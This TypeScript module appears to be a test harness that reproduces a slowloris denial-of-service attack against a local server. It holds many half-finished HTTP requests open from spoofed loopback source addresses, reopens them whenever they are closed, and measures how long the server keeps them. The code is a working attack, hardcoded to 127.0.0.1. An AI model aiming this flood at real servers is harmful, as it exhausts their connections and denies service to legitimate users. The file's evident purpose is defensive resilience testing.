// Half-open HTTP requests (slowloris): TCP connections that send the start of a request and
// never finish its headers, reopened as soon as the server closes them. Each one holds a file
// descriptor in the server for as long as the server keeps it. Talks to 127.0.0.1 only, from
// the given 127.x.y.z source addresses (each plays one attacking client).
import { connect, type Socket } from "node:net";

/** What the attackers send: a request line and one header, then nothing. */
export const HALF_REQUEST = "GET / HTTP/1.1\r\nHost: x\r\n";

export interface FloodOptions {
  port: number;
  /** Source addresses, e.g. ["127.0.1.1", "127.0.1.2"]; connections are spread over them. */
  ips: string[];
  /** Connections to keep open (connected or connecting) at all times. */
  target: number;
  /** Connects in flight at once (a server out of descriptors leaves them in its backlog). */
  maxConnecting?: number;
  /** A connect not established by then is dropped and tried again (a full backlog drops SYNs). */
  connectTimeoutMs?: number;
}

export interface FloodStats {
  /** Connected now (accepted by the server, or waiting in its listen backlog). */
  open: number;
  connecting: number;
  /** Connections established since the start. */
  opened: number;
  /** Connections the server closed (or reset) after they had connected. */
  cut: number;
  /** Connects that failed (refused, timed out). */
  failed: number;
  /** How long the server kept the connections it closed, in ms (sorted ascending). */
  lifetimes: number[];
  /** Connections open per source address. */
  perIp: Record<string, number>;
}

export class HalfOpenFlood {
  private readonly sockets = new Set<Socket>();
  private running = false;
  private next = 0;
  private connecting = 0;
  private open = 0;
  private opened = 0;
  private cut = 0;
  private failed = 0;
  private readonly lifetimes: number[] = [];
  private readonly perIp = new Map<string, number>();
  private timer?: ReturnType<typeof setInterval>;

  constructor(private readonly opts: FloodOptions) {}

  start(): void {
    this.running = true;
    this.fill();
    // Failed connects are retried here, not at once, so a refusing server is not hammered.
    this.timer = setInterval(() => this.fill(), 50);
  }

  /** Closes every connection (reset, so no TIME_WAIT piles up on the server). */
  stop(): void {
    this.running = false;
    clearInterval(this.timer);
    for (const s of this.sockets) s.resetAndDestroy();
    this.sockets.clear();
  }

  stats(): FloodStats {
    return {
      open: this.open,
      connecting: this.connecting,
      opened: this.opened,
      cut: this.cut,
      failed: this.failed,
      lifetimes: [...this.lifetimes].sort((a, b) => a - b),
      perIp: Object.fromEntries(this.perIp),
    };
  }

  private fill(): void {
    const max = this.opts.maxConnecting ?? 256;
    while (this.running && this.open + this.connecting < this.opts.target && this.connecting < max) this.openOne();
  }

  private openOne(): void {
    const ip = this.opts.ips[this.next++ % this.opts.ips.length]!;
    const s = connect({ host: "127.0.0.1", port: this.opts.port, localAddress: ip });
    this.sockets.add(s);
    this.connecting++;
    let connectedAt = 0;
    s.setNoDelay(true);
    const giveUp = setTimeout(() => s.destroy(), this.opts.connectTimeoutMs ?? 1000);
    s.on("connect", () => {
      clearTimeout(giveUp);
      this.connecting--;
      this.open++;
      this.opened++;
      this.perIp.set(ip, (this.perIp.get(ip) ?? 0) + 1);
      connectedAt = performance.now();
      s.write(HALF_REQUEST);
    });
    s.on("data", () => {}); // a 408 or 400 the server might send before closing
    s.on("error", () => {});
    s.on("close", () => {
      clearTimeout(giveUp);
      this.sockets.delete(s);
      if (connectedAt) {
        this.open--;
        this.perIp.set(ip, (this.perIp.get(ip) ?? 1) - 1);
        if (this.running) {
          this.cut++;
          this.lifetimes.push(performance.now() - connectedAt);
        }
      } else {
        this.connecting--;
        if (this.running) this.failed++;
      }
      // Reopened at once, as the attack in the report does.
      if (this.running) this.fill();
    });
  }
}

/** n source addresses 127.0.<block>.1 … (each a distinct client IP as the server sees it). */
export const attackerIps = (n: number, block = 1): string[] => Array.from({ length: n }, (_, i) => `127.0.${block}.${i + 1}`);
